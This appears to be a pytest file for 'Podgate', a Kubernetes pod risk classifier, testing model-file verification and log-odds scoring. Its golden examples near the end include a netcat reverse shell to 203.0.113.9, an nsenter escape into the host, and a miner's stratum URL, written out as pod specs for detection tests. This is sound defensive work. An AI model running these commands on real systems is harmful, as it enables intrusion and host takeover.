"""A model file is verified before it is used, and then only added up."""

import json
import math
from collections.abc import Callable
from importlib import resources
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from policies.risk import classifier
from policies.risk.classifier import (
    MAX_BYTES,
    Classifier,
    ModelError,
    Share,
    Thresholds,
    log_odds,
    probability,
    read,
    sealed,
)
from policies.risk.features import BY_NAME, FEATURES, Features
from tests.policies.risk import models, pods
from tests.policies.risk.models import model, pair, written
from tests.policies.risk.pods import Json, workload

SHIPPED = resources.files("policies.risk").joinpath("model.json").read_bytes()
vectors = st.fixed_dictionaries({}, optional={feature.name: st.integers(1, feature.most) for feature in FEATURES})


# What is refused.


def refused(content: bytes) -> str:
    with pytest.raises(ModelError) as caught:
        read(content)
    return str(caught.value)


def resealed(change: Callable[[Json], None]) -> bytes:
    """The shipped model with a change by somebody who knows how to make the checksum right."""
    content = json.loads(SHIPPED)
    change(content)
    try:
        found = msgspec.convert(content, classifier.Model)
    except msgspec.ValidationError:
        return json.dumps(content).encode()
    return written(sealed(found))


@pytest.mark.parametrize(
    "content",
    [b"", b"{", b"[]", b"null", b"\xff\xfe", b'{"format": 1}', b"\x80\x04K\x01.", SHIPPED[:-9], b"[" * 100_000],
    ids=["empty", "cut", "a list", "null", "no text", "incomplete", "a pickle", "torn", "nested"],
)
def test_what_is_no_model_is_refused(content: bytes) -> None:
    assert refused(content).startswith("the model cannot be read: ")


def test_a_file_that_is_too_large_is_not_even_read() -> None:
    assert refused(b" " * (MAX_BYTES + 1)) == f"the model is larger than {MAX_BYTES} bytes"
    padded = SHIPPED + b" " * (MAX_BYTES - len(SHIPPED))
    assert read(padded).model == classifier.shipped().model


@pytest.mark.parametrize("number", ["1e999", "-1e999", "NaN", "Infinity", '"1"', "null", "true", "[]"])
def test_what_is_no_number_is_refused(number: str) -> None:
    for key in ("intercept", "tables"):
        content = json.loads(SHIPPED)
        if key == "intercept":
            content[key] = "HERE"
        else:
            content[key]["power"][3] = "HERE"
        assert refused(json.dumps(content).replace('"HERE"', number).encode()).startswith("the model cannot be read: ")


def test_an_unknown_key_is_refused() -> None:
    for place in ((), ("thresholds",)):
        content = json.loads(SHIPPED)
        holder = content
        for step in place:
            holder = holder[step]
        holder["extra"] = 1
        assert "unknown field `extra`" in refused(json.dumps(content).encode())


@pytest.mark.parametrize(
    "change",
    [
        lambda content: content.update(intercept=content["intercept"] - 1e-12),
        lambda content: content["tables"]["power_base_image"].__setitem__(1, 9.0),
        lambda content: content["thresholds"].update(denyAt=1.0),
        lambda content: content["provenance"].update(seed=1),
        lambda content: content.update(version="other"),
        lambda content: content.update(checksum="sha256:" + "0" * 64),
        lambda content: content.update(checksum=""),
    ],
    ids=["intercept", "table", "threshold", "provenance", "version", "checksum", "no checksum"],
)
def test_any_change_is_noticed(change: Callable[[Json], None]) -> None:
    content = json.loads(SHIPPED)
    change(content)
    told = "the model's checksum is not that of its content: the file was changed or damaged"
    assert refused(json.dumps(content).encode()) == told


def _set(table: str, *values: float) -> Callable[[Json], None]:
    return lambda content: content["tables"].update({table: values})


def _paired(*found: classifier.Pair) -> Callable[[Json], None]:
    return lambda content: content.update(pairs=msgspec.to_builtins(found))


@pytest.mark.parametrize(
    ("change", "complaint"),
    [
        (lambda content: content.update(format=2), "has format 2; this version reads format 1"),
        (lambda content: content.update(format=0), "has format 0; this version reads format 1"),
        (lambda content: content.update(schema="sha256:0"), "was made for other features than this version has"),
        (lambda content: content["tables"].pop("power"), "model's tables are not those of the features"),
        (lambda content: content["tables"].update(other=[0.0]), "model's tables are not those of the features"),
        (_set("host_pid", 0.0), "table of host_pid has not the size of the feature's range"),
        (_set("host_pid", 0.0, 1.0, 2.0), "table of host_pid has not the size of the feature's range"),
        (_set("host_pid", 0.1, 0.2), "table of host_pid does not begin with 0"),
        (_set("host_pid", 0.0, -0.1), "is not monotone: host_pid of 1 is less of a risk than 0"),
        (_set("path_logs", 0.0, 0.2, 0.1), "is not monotone: path_logs of 2 is less of a risk than 1"),
        (_paired(pair("host_pid", "host_pid")), "has a pair of features that are none: host_pid and host_pid"),
        (_paired(classifier.Pair(("host_pid", "x"), ())), "has a pair of features that are none: host_pid and x"),
        (_paired(classifier.Pair(("host_pid", "host_ipc"), ((0.0, 0.0),))), "table of host_pid and host_ipc has not"),
        (
            _paired(classifier.Pair(("host_pid", "host_ipc"), ((0.0,), (0.0,)))),
            "table of host_pid and host_ipc has not the size",
        ),
        (
            _paired(pair("host_pid", "host_ipc", _0_1=0.1)),
            "table of host_pid and host_ipc counts where one of the two is missing",
        ),
        (
            _paired(pair("host_pid", "host_ipc", _1_0=0.1)),
            "table of host_pid and host_ipc counts where one of the two is missing",
        ),
        (
            _paired(pair("root_user", "host_ipc", _1_1=-1.0)),
            "is not monotone: root_user of 1 is less of a risk than 0",
        ),
        (lambda content: content["thresholds"].update(warnAt=0.95), "intercept or thresholds are no numbers"),
        (lambda content: content["thresholds"].update(warnAt=0.0), "intercept or thresholds are no numbers"),
        (lambda content: content["thresholds"].update(denyAt=1.5), "intercept or thresholds are no numbers"),
        (lambda content: content["thresholds"].update(warnAt=-1), "intercept or thresholds are no numbers"),
    ],
)  # fmt: skip
def test_what_does_not_hold_is_refused_though_its_checksum_is_right(
    change: Callable[[Json], None], complaint: str
) -> None:
    assert complaint in refused(resealed(change))


@pytest.mark.parametrize("value", [math.nan, math.inf, -math.inf])
def test_what_is_no_number_is_refused_however_it_got_there(value: float) -> None:
    for broken in (
        replace(model(), intercept=value),
        model(tables={"host_pid": (0.0, value)}),
        model(pairs=(pair("host_pid", "host_ipc", _1_1=value),)),
        replace(model(), thresholds=Thresholds(value, value)),
    ):
        with pytest.raises(ModelError):
            Classifier(sealed(broken))


def test_a_pair_may_take_back_what_its_features_add() -> None:
    """More of either is never less: 1 + 2 - 1 is as much as 2."""
    tables = {"host_pid": (0.0, 1.0), "host_ipc": (0.0, 2.0)}
    sound = Classifier(model(0.0, pairs=(pair("host_pid", "host_ipc", _1_1=-1.0),), tables=tables))
    assert sound.log_odds({"host_pid": 1, "host_ipc": 1}) == 2.0
    with pytest.raises(ModelError, match="host_pid of 1 is less of a risk than 0"):
        Classifier(model(0.0, pairs=(pair("host_pid", "host_ipc", _1_1=-1.1),), tables=tables))


def test_the_pairs_of_a_feature_are_held_against_it_together() -> None:
    both = (pair("host_pid", "host_ipc", _1_1=-0.6), pair("root_user", "host_pid", _1_1=-0.6))
    others = {"host_ipc": (0.0, 1.0), "root_user": (0.0, 1.0)}
    Classifier(model(pairs=both, tables={"host_pid": (0.0, 1.2), **others}))
    with pytest.raises(ModelError, match="host_pid of 1 is less of a risk than 0"):
        Classifier(model(pairs=both, tables={"host_pid": (0.0, 1.1), **others}))


# What is added up.


def test_shares_are_the_tables_entries_largest_first() -> None:
    tables = {"power": (0.0, 0.5, 1.0, 1.5, 2.0, 2.5, 3.0), "host_pid": (0.0, 2.0), "node_chosen": (0.0, 0.0)}
    found = Classifier(model(-5.0, pairs=(pair("power", "host_pid", _2_1=0.25),), tables=tables)).score(
        {"node_chosen": 1, "power": 2, "host_pid": 1}
    )
    assert found.shares == (
        Share(("host_pid",), (1,), 2.0),
        Share(("power",), (2,), 1.0),
        Share(("power", "host_pid"), (2, 1), 0.25),
    )
    assert found.log_odds == -1.75
    assert found.probability == pytest.approx(0.148047, abs=1e-6)


@given(vectors)
def test_shares_and_the_intercept_are_the_log_odds(found: Features) -> None:
    shipped = classifier.shipped()
    score = shipped.score(found)

    assert math.fsum(share.log_odds for share in score.shares) == pytest.approx(
        score.log_odds - shipped.model.intercept, abs=1e-12
    )
    assert score.log_odds == shipped.log_odds(found)
    assert all(share.log_odds > 0 for share in score.shares)


@given(vectors, st.randoms(use_true_random=False))
def test_the_order_in_which_features_were_found_changes_not_a_bit(found: Features, random: Any) -> None:
    shuffled = list(found.items())
    random.shuffle(shuffled)
    assert classifier.shipped().score(dict(shuffled)) == classifier.shipped().score(found)


@given(vectors, st.sampled_from(FEATURES))
def test_more_of_a_feature_is_never_less_of_a_risk(found: Features, feature: Any) -> None:
    shipped = classifier.shipped()
    more = {**found, feature.name: min(feature.most, found.get(feature.name, 0) + 1)}
    assert shipped.log_odds(more) >= shipped.log_odds(found) - 1e-9


@given(st.floats(-30, 30))
def test_probability_and_log_odds_are_inverse(value: float) -> None:
    assert log_odds(probability(value)) == pytest.approx(value, abs=1e-2 if abs(value) > 15 else 1e-9)


def test_they_stay_finite_at_the_ends() -> None:
    assert probability(0.0) == 0.5
    assert probability(1e9) == 1.0
    assert 0.0 < probability(-1e9) < 1e-300
    assert (log_odds(1.0), log_odds(0.0), log_odds(2.0), log_odds(-1.0)) == (700.0, -700.0, 700.0, -700.0)


# The model that comes with Podgate.


def test_the_riskiest_of_several_counts_and_the_first_of_equals() -> None:
    served = Classifier(models.model(-5.0, tables={"privileged": (0.0, 3.0), "host_pid": (0.0, 3.0)}))
    assert served.riskiest([{}]) == (-5.0, {})
    assert served.riskiest(iter([{}, {"privileged": 1}, {"host_pid": 1}])) == (-2.0, {"privileged": 1})


def test_the_shipped_model_verifies_and_is_named_by_version_and_checksum() -> None:
    shipped = classifier.shipped()
    assert read(SHIPPED).model == shipped.model
    version, _, checksum = shipped.name.partition("@")
    assert version == shipped.model.version == shipped.model.provenance["version"]
    assert shipped.model.checksum.removeprefix("sha256:").startswith(checksum)
    assert len(checksum) == 12
    assert classifier.shipped() is shipped


def test_it_was_made_from_the_shipped_data_set() -> None:
    from policies.risk.training import dataset  # noqa: PLC0415 - nothing else here needs it

    assert classifier.shipped().model.provenance["dataset"] == dataset.digest(dataset.shipped_bytes())


def test_an_empty_pod_is_as_likely_dangerous_as_the_intercept_says() -> None:
    shipped = classifier.shipped()
    assert shipped.log_odds({}) == shipped.model.intercept
    assert shipped.score({}).shares == ()


def test_all_features_together_are_dangerous() -> None:
    assert classifier.shipped().score({name: feature.most for name, feature in BY_NAME.items()}).probability > 0.999


ROOT: Json = {"volumes": [{"name": "host", "hostPath": {"path": "/"}}]}
SOCKET: Json = {"volumes": [{"name": "host", "hostPath": {"path": "/var/run/docker.sock"}}]}
MOUNT: Json = {"volumeMounts": [{"name": "host", "mountPath": "/host"}]}
READ_ONLY: Json = {"volumeMounts": [{"name": "host", "mountPath": "/host", "readOnly": True}]}
PRIVILEGED: Json = {"securityContext": {"privileged": True}}

#: What the shipped model says, and whether the pod stands by itself. Whoever trains a new one sees here what changes.
GOLDEN: dict[str, tuple[float, bool, Json]] = {
    "an application": (0.001153, False, {"containers": [{"image": "registry.example.com/shop/web:1.4"}]}),
    "a pod by itself": (0.015361, True, {"containers": [{"image": "registry.example.com/shop/web:1.4"}]}),
    "a network plugin": (
        0.00537,
        False,
        {
            "hostNetwork": True,
            "tolerations": [{"operator": "Exists"}],
            "initContainers": [{"image": "busybox", "command": ["sh", "-c", "sysctl -w a=b"], **PRIVILEGED}],
            "containers": [{"securityContext": {"capabilities": {"add": ["NET_ADMIN", "SYS_MODULE"]}}}],
        },
    ),
    "a metrics exporter": (
        0.001170,
        False,
        {
            "hostNetwork": True,
            "hostPID": True,
            **ROOT,
            "containers": [{"image": "quay.io/prometheus/node-exporter:v1.8.2", **READ_ONLY}],
        },
    ),
    "a build with the docker socket": (
        0.40503,
        False,
        {**SOCKET, "containers": [{"image": "docker:27-cli", "command": ["sh", "-c", "docker build ."], **MOUNT}]},
    ),
    "a base image asleep": (0.013296, False, {"containers": [{"image": "alpine", "command": ["sleep", "infinity"]}]}),
    "a privileged base image asleep": (
        0.855443,
        True,
        {"containers": [{"image": "ubuntu", "command": ["sleep", "infinity"], **PRIVILEGED}]},
    ),
    "a reverse shell": (
        0.989625,
        True,
        {"containers": [{"image": "alpine", "command": ["sh", "-c", "nc 203.0.113.9 4444 -e /bin/sh"]}]},
    ),
    "into the host": (
        0.997684,
        True,
        {
            "hostPID": True,
            "containers": [{"image": "alpine", "command": ["nsenter", "-t", "1", "-m", "sh"], **PRIVILEGED}],
        },
    ),
    "a miner in an application's deployment": (
        0.05094,
        False,
        {"containers": [{"image": "somebody/worker", "args": ["-o", "stratum+tcp://203.0.113.9:3333"]}]},
    ),
}


@pytest.mark.parametrize(("said", "alone", "spec"), GOLDEN.values(), ids=GOLDEN)
def test_what_the_shipped_model_says(said: float, alone: bool, spec: Json) -> None:
    obj = workload(spec, kind=("v1", "Pod") if alone else ("apps/v1", "Deployment"))
    assert probability(pods.log_odds(obj)) == pytest.approx(said, abs=5e-7)


def test_a_model_may_be_written_and_read_again() -> None:
    found = model(pairs=(pair("root_user", "host_pid", _1_1=0.5),), tables={"host_pid": (0.0, 0.1)})
    assert read(written(found)).model == found
    assert read(json.dumps(models.content(found), indent=1).encode()).model == found
